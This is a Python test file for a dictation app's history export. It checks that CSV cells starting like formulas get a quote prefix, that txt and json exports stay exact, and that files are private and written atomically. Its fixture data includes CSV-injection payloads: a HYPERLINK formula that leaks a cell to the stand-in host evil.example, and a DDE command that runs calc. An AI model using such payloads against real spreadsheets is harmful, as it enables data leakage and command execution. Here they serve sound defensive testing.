"""History export: transcripts that look like spreadsheet formulas stay text in CSV, txt and json
keep them exactly, and the exported file is private (0600) and written atomically."""

from __future__ import annotations

import csv
import json
import stat

import pytest

from dictate_app.engine.result import Transcript
from dictate_app.store.history import History
from dictate_app.store.history_export import csv_cell, export

# Real things people say, recognised as text (the first ones are what an attacker would dictate or
# get into the history through a shared recording).
SPOKEN = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1 for the new design",
    "-5 degrees tonight",
    "@channel the build is green",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
    "plain words = fine",
    "今天 -5 度",
]


@pytest.fixture
def entries(tmp_path):
    with History(tmp_path / "h.sqlite3") as history:
        for i, text in enumerate(SPOKEN):
            history.add(Transcript(text=text, raw=f"<|en|>{text}", language="en"), created=1_700_000_000 + i)
        yield history.recent()


def test_csv_cells_that_start_like_a_formula_get_a_quote(entries, tmp_path):
    export(entries, tmp_path / "h.csv")
    with open(tmp_path / "h.csv", encoding="utf-8-sig", newline="") as handle:  # keep the \r in a cell
        rows = list(csv.DictReader(handle))
    # The visible quote on "-5 degrees" is the accepted price (see csv_cell).
    assert [row["text"] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
        "'+1 for the new design",
        "'-5 degrees tonight",
        "'@channel the build is green",
        "'\t=1+1",
        "'\r=cmd|' /C calc'!A0",
        "plain words = fine",
        "今天 -5 度",
    ]
    # Every other text column is defused too; raw starts with its tag, so it is unchanged.
    assert rows[0]["raw"] == "<|en|>" + SPOKEN[0]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_txt_and_json_exports_stay_exact(entries, tmp_path):
    export(entries, tmp_path / "h.json")
    assert [e["text"] for e in json.loads((tmp_path / "h.json").read_text(encoding="utf-8"))] == SPOKEN
    export(entries, tmp_path / "h.txt")
    lines = (tmp_path / "h.txt").read_text(encoding="utf-8").split("\n")
    assert lines[0].split("\t", 1)[1] == SPOKEN[0] and lines[2].split("\t", 1)[1] == "-5 degrees tonight"


def test_csv_cell_leaves_numbers_and_plain_text_alone():
    assert csv_cell(-5.0) == -5.0 and csv_cell(None) is None and csv_cell("") == ""
    assert csv_cell("2023-11-14 22:13:20") == "2023-11-14 22:13:20"


def test_exports_are_private_and_replace_the_old_file(entries, tmp_path):
    old = tmp_path / "h.csv"
    old.write_text("an older export")
    old.chmod(0o644)
    for name in ("h.csv", "new.json", "new.txt"):
        assert export(entries, tmp_path / name) == len(SPOKEN)
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600
    assert "HYPERLINK" in old.read_text(encoding="utf-8-sig")
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temporary left behind
